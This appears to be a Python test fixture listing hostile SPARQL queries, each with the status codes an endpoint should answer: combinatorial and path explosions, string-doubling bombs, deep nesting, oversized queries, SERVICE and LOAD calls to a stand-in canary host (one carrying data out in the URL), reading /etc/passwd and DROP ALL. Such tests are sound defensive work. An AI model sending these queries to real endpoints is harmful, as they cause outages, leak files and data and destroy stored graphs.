"""Hostile queries: what a stranger may ask to keep the endpoint busy, to make it fall over or to make it call somebody.

``CANARY`` stands for the address of a listener that nobody should visit.
"""

from dataclasses import dataclass, field

CANARY = "http://canary/"
GUARD = frozenset({400, 403, 413, 414})
LIMITS = frozenset({429, 503, 504})
TOO_MUCH = "?a ?b ?c . ?d ?e ?f . ?g ?h ?i"
PREFIXES = "PREFIX skos: <http://www.w3.org/2004/02/skos/core#> PREFIX vg: <https://w3id.org/vakgraaf/def#> "


@dataclass(frozen=True)
class HostileQuery:
    """A query, and the statuses with which it may be answered."""

    name: str
    text: str
    statuses: frozenset[int]
    fields: dict[str, str | list[str]] = field(default_factory=dict)  # that are sent along
    by_get: bool = False


def _named(statuses: frozenset[int], queries: dict[str, str]) -> list[HostileQuery]:
    return [HostileQuery(name, text, statuses) for name, text in queries.items()]


PRODUCTS = {
    "count of a product": f"SELECT (COUNT(*) AS ?n) {{ {TOO_MUCH} }}",
    "count of a product of products": f"SELECT (COUNT(*) AS ?n) {{ {TOO_MUCH} . ?j ?k ?l . ?m ?n0 ?o . ?p ?q ?r }}",
    "distinct over a product": f"SELECT DISTINCT ?a ?f ?h {{ {TOO_MUCH} }}",
    "a filter that is never true": f"SELECT * {{ {TOO_MUCH} FILTER(STRLEN(CONCAT(STR(?a), STR(?f))) < 0) }}",
    "a question of yes or no about a product": f"ASK {{ {TOO_MUCH} FILTER(CONCAT(STR(?a), STR(?f)) = 'no') }}",
    "grouping a product": f"SELECT ?a (GROUP_CONCAT(?i) AS ?all) {{ {TOO_MUCH} }} GROUP BY ?a",
    "constructing a product": f"CONSTRUCT {{ ?a ?e ?i }} WHERE {{ {TOO_MUCH} }}",
    "describing a product": f"DESCRIBE ?a ?d {{ {TOO_MUCH} FILTER(?a != ?d) }}",
    "a product of optionals": "SELECT (COUNT(*) AS ?n) { ?a ?b ?c OPTIONAL { ?d ?e ?f } OPTIONAL { ?g ?h ?i } }",
    "a product of unions": "SELECT (COUNT(*) AS ?n) { "
    + " ".join(f"{{ ?a{n} ?b{n} ?c{n} }} UNION {{ ?c{n} ?b{n} ?a{n} }}" for n in range(4))
    + " }",
    "a product of lists of values": "SELECT (COUNT(*) AS ?n) { "
    + " ".join(f"VALUES ?v{n} {{ {'1 ' * 100} }}" for n in range(6))
    + " }",
    "taking away a product": f"SELECT (COUNT(*) AS ?n) {{ ?a ?b ?c MINUS {{ {TOO_MUCH} }} }}",
    "products that must not exist": "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?x ?y ?z "
    "FILTER NOT EXISTS { ?d ?e ?f FILTER(?f = STR(?a)) } }",
    "an offset into a product": f"SELECT * {{ {TOO_MUCH} }} OFFSET 2000000000 LIMIT 1",
    "a product of sub-selects": "SELECT (COUNT(*) AS ?n) { "
    + " ".join(f"{{ SELECT DISTINCT ?s{n} {{ ?s{n} ?p ?o }} }}" for n in range(4))
    + " }",
    "a product of graphs": "SELECT (COUNT(*) AS ?n) { GRAPH ?g { ?a ?b ?c } "
    "GRAPH ?h { ?d ?e ?f } GRAPH ?i { ?j ?k ?l } }",
}
ORDERS = {
    "ordering a product": f"SELECT * {{ {TOO_MUCH} }} ORDER BY ?a",
    "ordering a product by its texts": f"SELECT * {{ {TOO_MUCH} }} ORDER BY CONCAT(STR(?a), STR(?f), STR(?i)) LIMIT 1",
    "ordering a product by chance": f"SELECT * {{ {TOO_MUCH} }} ORDER BY RAND() LIMIT 1",
    "ordering a product in a sub-select": "SELECT (COUNT(*) AS ?n) { "
    f"{{ SELECT * {{ {TOO_MUCH} }} ORDER BY DESC(?c) }} }}",
}
PATHS = {
    "any path from anything to anything": "SELECT (COUNT(*) AS ?n) { ?x (!<urn:x>|^!<urn:x>)* ?y }",
    "any path at least one long": "SELECT (COUNT(*) AS ?n) { ?x (!<urn:x>|^!<urn:x>)+ ?y . ?y (!<urn:x>)+ ?z }",
    "a path within a path within a path": "SELECT (COUNT(*) AS ?n) { ?x (((!<urn:x>)*|(^!<urn:x>)*)+)* ?y }",
    "a path of many steps": f"SELECT (COUNT(*) AS ?n) {{ ?x {'/'.join(['(!<urn:x>|^!<urn:x>)'] * 30)} ?y }}",
    "a path of many alternatives": "SELECT (COUNT(*) AS ?n) { ?x "
    + "/".join(["(" + "|".join(["!<urn:x>", "^!<urn:x>"] * 6) + ")"] * 12)
    + " ?y }",
    "a path of many maybes": f"SELECT (COUNT(*) AS ?n) {{ ?x {'/'.join(['(!<urn:x>|^!<urn:x>)?'] * 20)} ?y }}",
    "a product of paths": PREFIXES
    + "SELECT (COUNT(*) AS ?n) { ?a (skos:broader|^skos:broader)* ?b . ?c (!<urn:x>)* ?d . ?e (^!<urn:x>)* ?f }",
    "a path there and back": "SELECT (COUNT(*) AS ?n) { ?x (!<urn:x>/^!<urn:x>)+ ?y }",
}
DOUBLING = {
    "a text that doubles": "SELECT (STRLEN(?x40) AS ?n) { BIND('0123456789' AS ?x0) "
    + " ".join(f"BIND(CONCAT(?x{n}, ?x{n}) AS ?x{n + 1})" for n in range(40))
    + " }",
    "a text that doubles by replacing": "SELECT (STRLEN(?x30) AS ?n) { BIND('a' AS ?x0) "
    + " ".join(f"BIND(REPLACE(?x{n}, 'a', 'aa') AS ?x{n + 1})" for n in range(30))
    + " }",
    "a text that grows by ten each time": "SELECT (STRLEN(?x12) AS ?n) { BIND('aaaaaaaaaa' AS ?x0) "
    + " ".join(f"BIND(REPLACE(?x{n}, 'a', 'aaaaaaaaaa') AS ?x{n + 1})" for n in range(12))
    + " }",
    "a text of all texts": f"SELECT (STRLEN(GROUP_CONCAT(?t)) AS ?n) {{ {TOO_MUCH} BIND(STR(?c) AS ?t) }}",
    "a text that doubles for each triple": "SELECT (SUM(STRLEN(?x20)) AS ?n) { ?s ?p ?o BIND(STR(?o) AS ?x0) "
    + " ".join(f"BIND(CONCAT(?x{n}, ?x{n}) AS ?x{n + 1})" for n in range(20))
    + " }",
    "a text that is percent-encoded again and again": "SELECT (STRLEN(?x30) AS ?n) { BIND('%%%%%%%%' AS ?x0) "
    + " ".join(f"BIND(ENCODE_FOR_URI(CONCAT(?x{n}, ?x{n})) AS ?x{n + 1})" for n in range(30))
    + " }",
}
DEEP = {
    "deep groups": f"ASK {{ {'{' * 2_000}{'}' * 2_000} }}",
    "deeper groups that never close": f"ASK {{ {'{' * 9_000}",
    "deep brackets": f"ASK {{ FILTER({'(' * 900}1{')' * 900}) }}",
    "many denials": f"ASK {{ FILTER({'!' * 1_900}true) }}",
    "many signs": f"ASK {{ FILTER({'-' * 1_900}1 = 1) }}",
    "deep blank nodes": f"ASK {{ ?s ?p {'[ ?p ' * 450}1{' ]' * 450} }}",
    "deep collections": f"ASK {{ ?s ?p {'( ' * 900}1{' )' * 900} }}",
    "deep sub-selects": f"ASK {{ {'{ SELECT * { ' * 300}{'} }' * 300} }}",
    "deep optionals": f"ASK {{ {'OPTIONAL { ' * 600}{'} ' * 600} }}",
    "deep triples in triples": f"ASK {{ BIND({'<<( <urn:a> <urn:b> ' * 300}1{' )>>' * 300} AS ?x) }}",
    "deep paths": f"ASK {{ ?s {'(' * 900}<urn:a>{')' * 900} ?o }}",
    "deep denials that nothing exists": f"ASK {{ {'FILTER NOT EXISTS { ' * 400}{'} ' * 400} }}",
    "deep functions": f"ASK {{ FILTER({'STR(' * 600}1{')' * 600} = '1') }}",
}
LONG = {
    "a huge union": f"ASK {{ {' UNION '.join(['{ ?s ?p ?o }'] * 330)} }}",
    "a huge disjunction": f"ASK {{ FILTER({' || '.join(['false'] * 900)}) }}",
    "a huge sum": f"ASK {{ FILTER({' + '.join(['1'] * 900)} = 1) }}",
    "a huge path": f"ASK {{ ?s {'/'.join(['<a:>'] * 900)} ?o }}",
    "a huge list of bindings": f"ASK {{ {' '.join(f'BIND(1 AS ?x{n})' for n in range(280))} }}",
    "a huge list of optionals": f"ASK {{ {' '.join(f'OPTIONAL {{ ?s ?p{n} ?o{n} }}' for n in range(128))} }}",
    "more than a query may be": f"ASK {{ VALUES ?x {{ {'<urn:x> ' * 3_000} }} }}",
    "more words than a query may have": f"ASK {{ VALUES ?x {{ {'1 ' * 5_000} }} }}",
    "more than a body may be": f"ASK {{ VALUES ?x {{ {'<urn:x> ' * 100_000} }} }}",
}
BOMBS = {
    "planning a star of everything": "SELECT (COUNT(*) AS ?n) { "
    + " ".join(f"?s ?p{n} ?o{n} ." for n in range(300))
    + " }",
    "planning a chain of everything": "SELECT (COUNT(*) AS ?n) { "
    + " ".join(f"?x{n} ?p{n} ?x{n + 1} ." for n in range(300))
    + " }",
    "planning ninety-nine optionals": "SELECT (COUNT(*) AS ?n) { ?s ?p ?o "
    + " ".join(f"OPTIONAL {{ ?s ?p{n} ?o{n} }}" for n in range(99))
    + " }",
    "planning lists in lists": "SELECT (COUNT(*) AS ?n) { "
    f"{{ ?s ?p {'( ?a ' * 38}{') ' * 38} }} UNION {{ {TOO_MUCH} }} }}",
    "planning unions of products": "SELECT (COUNT(*) AS ?n) { " + " UNION ".join([f"{{ {TOO_MUCH} }}"] * 90) + " }",
    "planning filters over a product": f"SELECT (COUNT(*) AS ?n) {{ {TOO_MUCH} "
    + " ".join(f"FILTER(?a != ?d || {n} = 1)" for n in range(99))
    + " }",
}
CALLS = {
    "SERVICE": f"SELECT * {{ SERVICE <{CANARY}> {{ ?s ?p ?o }} }}",
    "SERVICE SILENT": f"SELECT * {{ SERVICE SILENT <{CANARY}> {{ ?s ?p ?o }} }}",
    "service in small letters without spaces": f"SELECT*{{service<{CANARY}>{{?s?p?o}}}}",
    "SERVICE after a comment": f"SELECT * {{ #\r SERVICE # }}\n <{CANARY}> {{ ?s ?p ?o }} }}",
    "SERVICE with codepoint escapes": f"SELECT * {{ S\\u0045RV\\U00000049CE <{CANARY}> {{ ?s ?p ?o }} }}",
    "SERVICE of a variable": f"SELECT * {{ VALUES ?u {{ <{CANARY}> }} SERVICE ?u {{ ?s ?p ?o }} }}",
    "SERVICE that carries data out": f"SELECT * {{ ?s ?p ?o BIND(IRI(CONCAT('{CANARY}', ?o)) AS ?u) SERVICE ?u {{}} }}",
    "SERVICE where something must exist": f"ASK {{ FILTER EXISTS {{ SERVICE <{CANARY}> {{ ?s ?p ?o }} }} }}",
    "SERVICE in a sub-select": f"SELECT * {{ {{ SELECT * {{ SERVICE <{CANARY}> {{ ?s ?p ?o }} }} }} }}",
    "SERVICE after less-than": f"SELECT * {{ BIND(1 AS ?a) BIND(2 AS ?b) FILTER(?a<?b)SERVICE#>\n<{CANARY}> {{}} }}",
    "SERVICE glued to a prefix": f"PREFIX e: <{CANARY}> SELECT * {{ SERVICEe:b {{ ?s ?p ?o }} }}",
    "SERVICE as a prefix": f"PREFIX service: <urn:x> PREFIX : <{CANARY}> SELECT * {{ service:b {{ ?s ?p ?o }} }}",
    "LOAD": f"LOAD <{CANARY}>",
    "LOAD of a file": "LOAD SILENT <file:///etc/passwd> INTO GRAPH <urn:x>",
    "DROP ALL": "DROP ALL",
    "an update after a query": "SELECT * { ?s ?p ?o } ; DROP ALL",
    "a function of one engine": f"SELECT (<bif:http_get>('{CANARY}') AS ?x) {{}}",
    "a pragma of one engine": f'DEFINE get:soft "replace" SELECT * FROM <{CANARY}> {{ ?s ?p ?o }}',  # noqa: S608
}
HOSTILE = [
    *_named(LIMITS, PRODUCTS | ORDERS | PATHS | DOUBLING | BOMBS),
    *_named(GUARD, DEEP | LONG | CALLS),
    HostileQuery("a long address", f"ASK {{ }} # {'x' * 9_000}", GUARD, by_get=True),
    HostileQuery("an update as a field", "ASK {}", GUARD, {"update": "DROP ALL"}),
    HostileQuery("too many graphs", "ASK {}", GUARD, {"default-graph-uri": [f"{CANARY}{n}" for n in range(21)]}),
]
